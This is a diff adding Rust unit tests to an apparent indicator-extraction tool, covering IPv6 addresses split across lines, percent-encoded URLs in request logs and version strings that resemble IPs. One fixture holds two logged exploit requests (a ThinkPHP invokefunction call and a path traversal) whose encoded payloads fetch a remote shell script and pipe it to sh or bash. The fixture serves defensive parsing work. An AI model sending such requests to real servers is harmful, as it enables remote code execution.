@@ -1444,6 +1444,69 @@ fn label_words_inside_hosts_name_no_digest() {
 }
 
 #[test]
+fn ipv6_addresses_a_line_break_cut_are_joined() {
+    // Text taken from a PDF: the address goes on at the next line.
+    let text = "the operators moved the second stage to an IPv6-only host, 2a0d:5600:24:\n\
+                af1::3c, presumably to evade IPv4-only monitoring.\n\
+                Timeline 12:34:\n56 events\n";
+    let got = found_raw(text);
+    assert_eq!(
+        got,
+        vec![(
+            "ipv6".to_owned(),
+            "2a0d:5600:24:af1::3c".to_owned(),
+            "2a0d:5600:24:\naf1::3c".to_owned(),
+            false
+        )]
+    );
+}
+
+#[test]
+fn urls_percent_encoded_in_request_paths_are_found() {
+    // An exploit's request carries the command it runs, encoded: the URL
+    // it fetches is the indicator, over the span of its encoded form.
+    let log = "80.94.95.81 - - \"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[1][]=curl%20-s%20https%3A%2F%2Fdl.tpshell-mirror.cc%2Ft.sh%7Csh HTTP/1.1\" 404\n\
+               185.216.71.240 \"GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20http%3a%2f%2f185.216.71.240%2fivnt.sh%7cbash HTTP/1.1\"\n\
+               GET /cgi-bin/a.cgi?x=1%20%2F%2F%20note%3A%20ok HTTP/1.1\n";
+    let got = found_raw(log);
+    let urls: Vec<_> = got.iter().filter(|m| m.0 == "url").cloned().collect();
+    assert_eq!(
+        urls,
+        vec![
+            (
+                "url".to_owned(),
+                "https://dl.tpshell-mirror.cc/t.sh".to_owned(),
+                "https%3A%2F%2Fdl.tpshell-mirror.cc%2Ft.sh".to_owned(),
+                true
+            ),
+            (
+                "url".to_owned(),
+                "http://185.216.71.240/ivnt.sh".to_owned(),
+                "http%3a%2f%2f185.216.71.240%2fivnt.sh".to_owned(),
+                true
+            ),
+        ]
+    );
+    // A path with escapes but no encoded URL stays a path.
+    assert!(got.iter().any(|m| m.0 == "file-path" && m.2.starts_with("/cgi-bin/a.cgi")), "{got:?}");
+}
+
+#[test]
+fn versions_in_korean_notices_and_status_lines_are_no_addresses() {
+    // `버전` is Korean for version; a status line whose first field is
+    // a version lists more of them under keys of their own (Defender's
+    // network inspection `NIS`), while a network key still says address.
+    let text = " o 백신을 최신 버전(V3 9.0.72.4 이상)으로 업데이트\n\
+                Engine version: 1.1.25040.1, AS/AV signatures: 1.429.211.0, NIS: 1.249.11.0\n\
+                Agent version: 2.1.0.3, C2: 5.61.33.7, relay: 1.249.11.8\n\
+                NIS: 1.249.11.9\n";
+    assert_eq!(
+        found(text),
+        kinds_values(&[("ipv4", "5.61.33.7"), ("ipv4", "1.249.11.8"), ("ipv4", "1.249.11.9")])
+    );
+}
+
+#[test]
 fn versions_in_bulletin_tables_ranges_and_configs_are_no_addresses() {
     // A bulletin's table: the column's head says what its cells hold; an
     // address column in another table stays.
